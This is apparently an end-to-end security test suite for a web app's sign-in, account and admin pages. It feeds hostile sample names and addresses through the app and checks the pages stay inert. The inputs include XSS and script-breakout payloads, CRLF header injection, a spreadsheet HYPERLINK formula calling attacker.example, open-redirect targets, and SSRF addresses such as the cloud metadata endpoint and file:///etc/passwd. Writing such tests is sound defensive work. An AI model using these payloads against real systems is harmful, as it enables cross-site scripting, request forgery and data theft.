import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { another } from "../vendors";
import { signedIn } from "./steps";
import { type StartedApp, startApp } from "./support/app";
import { Browser, failureOf, someOf } from "./support/browser";
import { query } from "./support/database";
import { textOf } from "./support/html";
import { type Independent, lendIndependent } from "./support/independent";
import { getAs, pagePaths } from "./support/pages";
import { expectSignedIn } from "./support/refused";

// Names, labels and pictures are whatever somebody has typed at a provider.

const mark = "mallory7c1";
const names: Record<string, string> = {
  script: `<script>alert("${mark}")</script>`,
  attribute: `"><img src=x onerror=alert("${mark}")>`,
  template: `\${alert("${mark}")} {{${mark}}} %{${mark}}`,
  flight: `"]);self.__next_f.push([1,"${mark}</script><script>alert(1)`,
  override: `${mark}\u202Egnp.exe\u2066 \u200F`,
  nul: `${mark}\u0000\u0007\u001b[31mred`,
  lines: `${mark}\r\nSet-Cookie: a=b\r\n\r\n<h1>`,
  emoji: `${mark} 👩‍👩‍👧‍👦🏳️‍🌈é̂̃`,
  formula: `=HYPERLINK("https://attacker.example/${mark}","x")`,
  address: `javascript:alert("${mark}")`,
};

/**
 * Those that every page is looked at with: for markup, for the page's data, and for what is taken out of a name. All of
 * them are looked at where they are shown.
 */
const everywhere = someOf(Object.keys(names), ["attribute", "flight", "lines"]);

let folder: string;
let app: StartedApp;
let admin: Browser;
beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), "valet-key-people-"));
  const people = Object.entries(names).map(([id, name]) => ({
    id,
    name,
    username: `mallory-${id}`,
    email: `${id}@mallory.example`,
  }));
  const grace = { id: "grace", name: "Grace", username: "grace", email: "grace@hopper.example" };
  writeFileSync(join(folder, "people.json"), JSON.stringify([...people, grace]));
  app = await startApp({
    env: { ADMIN_EMAILS: "grace@hopper.example", LOCAL_PROVIDERS_PEOPLE: join(folder, "people.json") },
  });
  admin = await signedIn(app, "github", "grace");
});
afterAll(async () => {
  await app?.stop();
  rmSync(folder, { recursive: true, force: true });
});

/** Expects a page whose only scripts are its own, and in which no text of somebody's is markup. */
function expectInert(html: string, policy: string, what: string): void {
  const nonce = policy.match(/'nonce-([^']+)'/)?.[1] ?? "";
  expect(nonce, what).not.toBe("");
  const scripts = [...html.matchAll(/<script\b[^>]*>/gi)].map(([tag]) => tag);
  expect(
    scripts.filter((tag) => !tag.includes(`nonce="${nonce}"`)),
    what,
  ).toEqual([]);
  const tags = html.replace(/<script\b[^>]*>.*?<\/script>/gs, "").replace(/"[^"]*"/g, '""');
  expect(tags, what).not.toMatch(/<[^>]+\s(on\w+|style)\s*=/i);
  // Apart from what the page's own script holds as data, in which "<" is escaped.
  expect(html, what).not.toContain(`<script>alert`);
  expect(html, what).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
  expect(html, what).not.toContain("\0");
  expect(
    [...html.matchAll(/\s(?:href|src|action|formaction)="([^"]*)"/g)].filter(([, to]) =>
      /^\s*(javascript|data):/i.test(to ?? ""),
    ),
    what,
  ).toEqual([]);
}

const policyOf = (response: Response) => response.headers.get("content-security-policy") ?? "";

describe.each(Object.keys(names))("somebody who is called %s", (id) => {
  it("W12 is called that in words, on every page of their own", async () => {
    const browser = await signedIn(app, another.id, id);
    const seen: string[] = [];
    // part: recovery-codes
    // Their page is there only while it has codes to show.
    await browser.post("/account/connections/form/make-recovery-codes");
    const all = ["/", "/signin", ...pagePaths().filter((one) => one.startsWith("/account"))];
    for (const path of everywhere.includes(id) ? all : ["/account"]) {
      const response = await browser.get(path);
      expect(response.status, path).toBe(200);
      const html = await response.text();
      expectInert(html, policyOf(response), path);
      if (textOf(html).includes("mallory")) seen.push(path);
      const data = await getAs(browser, path, { rsc: "1" });
      expect(data.headers.get("content-type")).toMatch(/^text\/x-component/);
    }
    expect(seen).toContain("/account");
    const { body } = await browser.me();
    expect(String(body.name)).toContain(mark);
    expect(String(body.name)).not.toMatch(/[\p{Cc}\u202A-\u202E\u2066-\u2069\u200E\u200F]/u);
  });

  it("W12 is only words for an administrator, and in the file that they download", async () => {
    const browser = await signedIn(app, another.id, id);
    const { body } = await browser.me();
    for (const path of [`/admin?q=${mark}`, `/admin/people/${body.id}`]) {
      const response = await admin.get(path);
      const html = await response.text();
      expectInert(html, policyOf(response), path);
      expect(html, path).toContain(mark);
    }
    const file = await browser.post("/account/data/form/export");
    expect(file.headers.get("content-type")).toMatch(/^application\/json/);
    expect(file.headers.get("content-disposition")).toMatch(/^attachment; filename="[\w.-]+"$/);
    expect(JSON.parse(await file.text())).toMatchObject({ profile: { name: body.name } });
    const api = await browser.get("/api/me");
    expect(api.headers.get("content-type")).toMatch(/^application\/json/);
  });
});

it("W12 what people type here themselves is only words as well, and has an end", async () => {
  const browser = await signedIn(app, another.id, "emoji");
  for (const name of [
    ...Object.values(names),
    "a".repeat(10_240),
    "👩‍👩‍👧‍👦".repeat(2_000),
    "\u0000",
    "\u202E",
  ]) {
    const answer = await browser.post("/account/form/name", new URLSearchParams({ name }));
    expect(answer.status).toBeLessThan(500);
    await answer.text();
    const response = await browser.get("/account");
    expectInert(await response.text(), policyOf(response), name.slice(0, 40));
    const { body } = await browser.me();
    expect([...String(body.name)].length).toBeLessThanOrEqual(200);
    expect(String(body.name)).not.toMatch(/[\p{Cc}\u202A-\u202E\u2066-\u2069]/u);
  }
});

it("W12 what an address says is repeated as words, or not at all", async () => {
  for (const text of everywhere.map((id) => names[id] ?? "")) {
    for (const path of [
      "/signin?returnTo=",
      "/signin/error?reference=",
      "/signin/error?cause=",
      "/admin?q=",
      "/unavailable?returnTo=/",
    ]) {
      const response = await admin.get(path + encodeURIComponent(text));
      expectInert(
        (await response.text()).replaceAll(/[\p{Cc}\u202A-\u202E\u2066-\u2069]/gu, ""),
        policyOf(response),
        path,
      );
    }
  }
});

it("W1 the question whether to link two ways in leads nobody elsewhere, however it is answered", async () => {
  // The same address at both, so the second way in meets the first.
  await signedIn(app, another.id, "address");
  for (const attack of ["https://evil.example", "/\\evil.example", ""]) {
    const browser = new Browser(app.origin);
    expect(failureOf(await browser.signIn("github", { person: "address" }))?.cause).toBe("email_taken");
    const asked = await browser.signIn(another.id, { person: "address" }, attack);
    const question = new URL(asked.headers.get("location") ?? "", app.origin);
    expect([question.origin, question.pathname]).toEqual([app.origin, "/signin/link"]);
    question.searchParams.set("returnTo", attack);
    const form = (await browser.forms(question.href)).find(({ fields }) => "returnTo" in fields);
    if (!form) expect.fail("no question");
    expect(form.fields.returnTo).toMatch(/^\/(?![/\\])/);
    const answer = await browser.submit(form, { returnTo: attack, link: attack === "" ? "yes" : "no" });
    expect(answer.status).toBe(303);
    expect(new URL(answer.headers.get("location") ?? "", app.origin).origin).toBe(app.origin);
  }
});

describe("a picture", () => {
  let running: Independent;
  /** Counts whoever comes, which nobody must. */
  const visits: string[] = [];
  const trap = createServer((request, response) => {
    visits.push(request.url ?? "");
    response.end();
  });
  let trapOrigin: string;
  beforeAll(async () => {
    await new Promise<void>((ready) => trap.listen(0, "127.0.0.1", ready));
    trapOrigin = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
    running = await lendIndependent();
  });
  afterAll(async () => {
    trap.close();
    await running?.stop();
  });

  // tests/unit/identity.test.ts and tests/unit/page-origins.test.ts have the rest of what an address can be.
  const refused = (): string[] => [
    "http://169.254.169.254/latest/meta-data/",
    "javascript:alert(1)",
    "//attacker.example/a.png",
    "https://attacker.example/pixel.png",
    `${running.oidc.issuer}.attacker.example/a.png`,
    `http://user:word@${new URL(running.oidc.issuer).host}/a.png`,
    `${trapOrigin}/pixel.png`,
    `http://localhost:${new URL(trapOrigin).port}/pixel.png`,
    "a.png",
    `https://attacker.example/${"a".repeat(10_240)}`,
  ];

  it("W11 of another host than its provider's is none, and nobody goes there: not the server, not a browser", async () => {
    for (const picture of refused()) {
      running.oidc.tamper = { userinfo: (body) => ({ ...body, picture }) };
      running.oidc.account = { ...running.oidc.account, sub: `subject-${picture}`.slice(0, 200), email: "" };
      const browser = new Browser(running.app.origin);
      await expectSignedIn(browser, await browser.signIn("oidc"));
      expect((await browser.me()).body.image, picture).toBeNull();
    }
    const browser = new Browser(running.app.origin);
    await expectSignedIn(browser, await browser.signIn("oidc"));
    expect(await (await browser.get("/account")).text()).not.toMatch(/<img\b|attacker\.example/);
    expect(visits).toEqual([]);
    expect(query(running.app, 'SELECT "image" FROM "User" WHERE "image" IS NOT NULL')).toEqual([]);
  });

  it("W11 of its provider's own host is shown, from there and from nowhere else", async () => {
    const picture = `${running.oidc.issuer}/pictures/one.png`;
    running.oidc.tamper = { userinfo: (body) => ({ ...body, picture }) };
    running.oidc.account = { ...running.oidc.account, sub: "with-a-picture", email: "" };
    const before = { ...running.oidc.requests };
    const browser = new Browser(running.app.origin);
    await expectSignedIn(browser, await browser.signIn("oidc"));
    expect((await browser.me()).body.image).toBe(picture);
    const response = await browser.get("/account");
    expect(await response.text()).toContain(`src="${picture}"`);
    const images = policyOf(response)
      .match(/img-src ([^;]*)/)?.[1]
      ?.split(" ");
    expect(images).toEqual([
      "'self'",
      running.github.origin,
      running.github.origin.replace("//", "//avatars."),
      new URL(running.oidc.issuer).origin,
    ]);
    expect(running.oidc.requests.userinfo).toBe(before.userinfo + 1);
  });

  it("W11 the server fetches no picture for anybody", async () => {
    const browser = new Browser(running.app.origin);
    for (const address of [
      `${trapOrigin}/a.png`,
      "/icon.svg",
      "http://169.254.169.254/",
      "file:///etc/passwd",
    ]) {
      const response = await browser.get(
        `/_next/image?${new URLSearchParams({ url: address, w: "64", q: "75" })}`,
      );
      expect(response.status, address).toBe(404);
      await response.text();
    }
    expect(visits).toEqual([]);
  });

  it("W3 the policy names the providers' own addresses, an issuer's as its metadata says", async () => {
    const response = await new Browser(running.app.origin).get("/signin");
    const targets = policyOf(response)
      .match(/form-action ([^;]*)/)?.[1]
      ?.split(" ");
    expect(targets).toEqual(["'self'", running.github.origin, new URL(running.oidc.issuer).origin]);
  });
});
